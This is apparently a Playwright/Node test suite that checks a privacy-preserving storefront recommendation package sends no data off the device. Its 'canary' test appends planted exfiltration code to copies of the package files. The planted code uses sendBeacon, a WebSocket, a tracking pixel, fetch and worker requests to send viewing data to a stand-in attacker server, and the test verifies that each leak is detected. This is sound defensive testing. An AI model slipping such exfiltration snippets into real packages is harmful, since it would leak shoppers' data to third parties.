// Nothing the shopper does leaves the device. With no Content-Security-Policy in place (a policy could block a leak
// before it shows), every request of every kind is recorded, from the page, its frames (the vault) and its workers,
// across every fixture page of the test shop in both installs, and across consent, export, forget, opt-out and
// leaving the page. Each must match an exact allow list of origin, path and method.
//
// The canary proves the watch can fail: a copy of the package with a beacon, a WebSocket, an image, a cross-origin
// fetch from the page, a fetch and a WebSocket from the ranking worker and a fetch from the vault's frame planted in
// it. Every one must be caught by each watch.
//
// Seen through Playwright's request events (page, frames and workers) and, for WebSockets, the Chrome DevTools
// Protocol's Network.webSocketCreated of each page and of each dedicated worker it starts (attached to as they start,
// the vault frame's included). A shared worker (the default ranking worker) is no page's, and Playwright reports
// none of its requests: so every visit also runs in a browser that sends every request through a recording proxy
// (tests/support/egress_proxy.mjs), which sees each one whatever made it, WebSockets included.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { appendFileSync, cpSync, mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';

import { startServer } from '../../tools/serve.mjs';
import { launchBrowser } from '../support/browser.mjs';
import { recordAtProxy } from '../support/egress_proxy.mjs';
import { distDir } from '../support/paths.mjs';
import { startShop, openPage, vitrineReady, callOnShopperClick } from './storefront_support.mjs';

let sink; // the attacker's server: any request to it is a leak
let socketSink; // the attacker's server for the worker's WebSocket
let canaryDir;
let shops;
let browser;

before(async () => {
  sink = await startServer({ mounts: {} });
  socketSink = await startServer({ mounts: {} });
  canaryDir = mkdtempSync(path.join(os.tmpdir(), 'vitrine-canary-'));
  cpSync(distDir, canaryDir, { recursive: true });
  const to = JSON.stringify(sink.url);
  // Planted leaks (TEST ONLY): what a compromised or careless build could do.
  appendFileSync(
    path.join(canaryDir, 'index.mjs'),
    `;setTimeout(()=>{const s=${to};try{navigator.sendBeacon(s+"beacon","viewed=p3")}catch{}
try{new WebSocket(s.replace("http","ws")+"socket")}catch{}try{new Image().src=s+"pixel.gif?viewed=p3"}catch{}
fetch(s+"fetch",{method:"POST",body:"viewed=p3",mode:"no-cors"}).catch(()=>{})},0);`
  );
  // The worker's leaks say which origin's worker made them (the shop's or the vault's); its WebSocket goes to a sink
  // of its own, told apart at the proxy by its port (a proxy sees only a socket's host and port).
  // The test engine's shop rebuilds worker.mjs (storefront_support.mjs startShop), so these go in as it does.
  const toSockets = JSON.stringify(socketSink.url);
  const workerPlant = `;fetch(${to}+"worker?from="+encodeURIComponent(location.origin),{mode:"no-cors"}).catch(()=>{});
try{new WebSocket(${toSockets}.replace("http","ws")+"worker-socket")}catch{}`;
  appendFileSync(path.join(canaryDir, 'vault_frame.mjs'), `;fetch(${to}+"vault",{mode:"no-cors"}).catch(()=>{});`);
  shops = {
    real: await startShop({ engine: 'test', csp: null, vault: true }),
    canary: await startShop({ engine: 'test', csp: null, vault: true, packageDir: canaryDir, workerPlant }),
    canarySink: sink.url,
    canarySocketSink: socketSink.url,
  };
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  for (const shop of [shops?.real, shops?.canary]) shop?.close();
  sink?.server.close();
  socketSink?.server.close();
  if (canaryDir) rmSync(canaryDir, { recursive: true, force: true });
});

/** Every request and WebSocket from the pages opened in `run`, page, frames and workers alike. */
async function recordEgress(run) {
  const seen = [];
  const onRequest = (r) =>
    seen.push({ kind: r.resourceType(), method: r.method(), url: r.url(), body: r.postData() ?? null });
  browser.context.on('request', onRequest);
  const sessions = [];
  const watchPage = async (page) => {
    const cdp = await browser.context.newCDPSession(page);
    const webSocket = (url) => seen.push({ kind: 'websocket', method: 'GET', url, body: null });
    cdp.on('Network.webSocketCreated', ({ url }) => webSocket(url));
    // Workers: attached to as they start (held until their network is watched), spoken to through this session.
    let id = 0;
    const toWorker = (sessionId, method) =>
      cdp
        .send('Target.sendMessageToTarget', { sessionId, message: JSON.stringify({ id: ++id, method }) })
        .catch(() => {});
    cdp.on('Target.attachedToTarget', async ({ sessionId }) => {
      await toWorker(sessionId, 'Network.enable');
      await toWorker(sessionId, 'Runtime.runIfWaitingForDebugger');
    });
    cdp.on('Target.receivedMessageFromTarget', ({ message }) => {
      const m = JSON.parse(message);
      if (m.method === 'Network.webSocketCreated') webSocket(m.params.url);
    });
    await cdp.send('Network.enable');
    await cdp.send('Target.setAutoAttach', { autoAttach: true, waitForDebuggerOnStart: true, flatten: false });
    sessions.push(cdp);
  };
  try {
    await run(async () => {
      // A worker per page: Playwright and CDP see its requests (the proxy's watch runs the default shared worker).
      const { page } = await openPage(browser.context, { workerPerPage: true });
      await watchPage(page);
      return page;
    });
  } finally {
    browser.context.off('request', onRequest);
    for (const cdp of sessions) await cdp.detach().catch(() => {});
  }
  return seen;
}

/** The requests Vitrine may make: GETs of pages, the package and the model, from the shop's or the vault's origin. */
function unexpected(seen, shop) {
  const shopOrigin = new URL(shop.url).origin;
  const vaultOrigin = new URL(shop.vaultUrl).origin;
  const allowed = [
    // The shop's pages and their own scripts, the package and the models the pages name.
    {
      origin: shopOrigin,
      path: /^\/(?:[\w-]+\.(?:html|js|mjs|css)|favicon\.ico|vitrine\/[\w.-]+\.(?:js|mjs|wasm|html|css)|models\/(?:test|tiny)\.vtm)$/,
    },
    { origin: vaultOrigin, path: /^\/(?:vitrine\/[\w.-]+\.(?:js|mjs|wasm|html|css)|models\/test\.vtm|favicon\.ico)$/ },
  ];
  // The one query string: Vitrine's panel and consent prompt in the page's language (why.html's is a fragment).
  const allowedSearch = (url) =>
    url.search === '' ||
    (/^\/vitrine\/(?:panel|consent)\.html$/.test(url.pathname) && /^\?lang=[A-Za-z-]{2,12}$/.test(url.search));
  return seen.filter((r) => {
    let url;
    try {
      url = new URL(r.url);
    } catch {
      return true;
    }
    if (url.protocol === 'blob:' || url.protocol === 'data:' || url.href === 'about:blank') return false;
    const ok =
      r.method === 'GET' &&
      r.body === null &&
      allowedSearch(url) &&
      r.kind !== 'websocket' &&
      allowed.some((a) => a.origin === url.origin && a.path.test(url.pathname));
    return !ok;
  });
}

// Not real.html, real-de.html and late-list.html: templates whose model their own tests fill in.
const FIXTURE_PAGES = [
  'shop.html',
  'other.html',
  'capture.html',
  'recent.html',
  'ga4.html',
  'manual.html',
  'consent.html',
  'consent-tcf.html',
  'consent-mode.html',
  'report-consent.html',
  'why.html',
  'prompt.html',
];
const VAULT_PAGES = ['vault-shop.html', 'vault-other.html', 'vault-recent.html', 'vault-why.html', 'vault-prompt.html'];

/** A shopper's visit over every page: consent, views, a cart, a search, export, forget, opt-out and back, leaving. */
async function visitEverything(shop, openWatched) {
  const page = await openWatched();
  for (const name of [...FIXTURE_PAGES, ...VAULT_PAGES]) {
    await page.goto(shop.url + name);
    await vitrineReady(page);
    await page.evaluate(() => {
      window.testCmp?.decide({ 1: true, 3: true, 4: true });
      window.gtag?.('consent', 'update', { ad_personalization: 'granted', personalization_storage: 'granted' });
    });
    await callOnShopperClick(page, 'grantConsent');
    await page.evaluate(async () => {
      for (const item of ['p3', 'p5']) await window.vitrine.track({ kind: 'add_to_cart', item, category: 'bags' });
      await window.vitrine.track({ kind: 'search', query: 'secret query' });
      await window.vitrine.ready;
    });
    const add = await page.$('[data-vitrine-action="add_to_cart"]');
    if (add) await add.click();
    // The shopper's own frames: Vitrine's consent prompt, and a reason asked for.
    const allow = page.frameLocator('iframe[data-vitrine-consent-frame]').locator('#allow');
    if (await page.$('iframe[data-vitrine-consent-frame]')) await allow.click();
    const why = await page.$('[data-vitrine-why]:not([hidden])');
    if (why) await why.click();
    await page.evaluate(async () => {
      await window.vitrine.exportData();
      await window.vitrine.profile();
    });
  }
  await page.goto(shop.url + 'shop.html');
  await vitrineReady(page);
  await page.evaluate(async () => {
    await window.vitrine.forget();
    await window.vitrine.track({ kind: 'view', item: 'p6' });
    await window.vitrine.optOut();
  });
  await callOnShopperClick(page, 'optIn');
  await page.goto(shop.url + 'vault-shop.html');
  await vitrineReady(page);
  await page.evaluate(() => window.vitrine.optOut());
  await page.goto('about:blank'); // leaving: pagehide, journals
  await page.close();
}

test('the package makes no request but GETs of pages, its files and the model, on every page and action, with no CSP', async () => {
  // Twice: through Playwright and the DevTools protocol (which tell kinds and sockets apart but see no shared
  // worker), and at the recording proxy (which sees every request, whatever made it).
  const watched = await recordEgress((open) => visitEverything(shops.real, open));
  assert.deepEqual(unexpected(watched, shops.real), []);
  const seen = await recordAtProxy((context) =>
    visitEverything(shops.real, async () => (await openPage(context)).page)
  );
  assert.ok(
    seen.some((r) => r.url === `${shops.real.url}models/test.vtm`),
    'the shop-origin worker fetched the model'
  );
  assert.ok(
    seen.some((r) => r.url === `${shops.real.vaultUrl}models/test.vtm`),
    "the vault's worker fetched the model"
  );
  assert.deepEqual(unexpected(seen, shops.real), []);
});

test('the canary: a planted beacon, WebSocket, image, cross-origin fetch, worker fetch and WebSocket and vault-frame fetch are each caught', async () => {
  // Both watches of the test above must catch every planted leak. First Playwright's and CDP's.
  const watched = await recordEgress(async (open) => {
    const page = await open();
    for (const name of ['shop.html', 'vault-shop.html']) {
      await page.goto(shops.canary.url + name);
      await vitrineReady(page);
      await page.waitForTimeout(300);
    }
    await page.close();
  });
  const caught = unexpected(watched, shops.canary).map((r) => `${r.kind} ${new URL(r.url).pathname}`);
  for (const planted of [
    'ping /beacon',
    'websocket /socket',
    'image /pixel.gif',
    'fetch /fetch',
    'fetch /worker',
    'websocket /worker-socket',
    'fetch /vault',
  ]) {
    assert.ok(caught.includes(planted), `${planted} not caught; caught: ${caught.join(', ')}`);
  }
  // The ranking worker runs on the shop's page and, with the vault, in the vault's frame: both are watched.
  assert.equal(caught.filter((l) => l === 'websocket /worker-socket').length, 2, `caught: ${caught.join(', ')}`);

  // Then the recording proxy's, which also sees a shared worker.
  const seen = await recordAtProxy(async (context) => {
    const { page } = await openPage(context);
    for (const name of ['shop.html', 'vault-shop.html']) {
      await page.goto(shops.canary.url + name);
      await vitrineReady(page);
      await page.evaluate(() => window.vitrine.refresh()); // the worker is running, its planted requests made
      await page.waitForTimeout(300);
    }
    await page.close();
  });
  const sink = new URL(shops.canarySink);
  const socketSink = new URL(shops.canarySocketSink);
  const leaks = unexpected(seen, shops.canary).map((r) => `${r.method} ${r.url.replace(sink.origin, 'sink')}`);
  const fromWorker = (url) => `GET sink/worker?from=${encodeURIComponent(new URL(url).origin)}`;
  for (const planted of [
    'POST sink/beacon',
    `CONNECT connect://${sink.host}`, // the page's WebSocket
    'GET sink/pixel.gif?viewed=p3',
    'POST sink/fetch',
    fromWorker(shops.canary.url),
    fromWorker(shops.canary.vaultUrl),
    'GET sink/vault',
  ]) {
    assert.ok(leaks.includes(planted), `${planted} not caught; caught: ${leaks.join(', ')}`);
  }
  const workerSockets = leaks.filter((l) => l === `CONNECT connect://${socketSink.host}`);
  assert.ok(workerSockets.length >= 2, `the workers' WebSockets: ${leaks.join(', ')}`);
});

/** A shopper on two pages that share one ranking worker: views, a cart, a search, export, forget, opt-out. */
async function visitWithSharedWorker(shop, context) {
  const { page } = await openPage(context);
  for (const name of ['shared-shop.html', 'shared-recent.html', 'shared-shop.html']) {
    await page.goto(shop.url + name);
    await vitrineReady(page);
    await page.evaluate(async () => {
      for (const item of ['p3', 'p5']) await window.vitrine.track({ kind: 'add_to_cart', item, category: 'bags' });
      await window.vitrine.track({ kind: 'search', query: 'secret query' });
      await window.vitrine.refresh();
      await window.vitrine.exportData();
      await window.vitrine.profile();
    });
    await page.waitForTimeout(300);
  }
  await page.evaluate(async () => {
    await window.vitrine.forget();
    await window.vitrine.optOut();
  });
  await page.goto('about:blank');
  await page.close();
}

test('with a shared ranking worker, every request leaving the browser (seen at a proxy) is an allowed GET', async () => {
  const seen = await recordAtProxy((context) => visitWithSharedWorker(shops.real, context));
  const model = seen.filter((r) => r.url === `${shops.real.url}models/test.vtm`);
  assert.equal(model.length, 1, 'one worker for the pages: the model is fetched once');
  assert.deepEqual(unexpected(seen, shops.real), []);
});
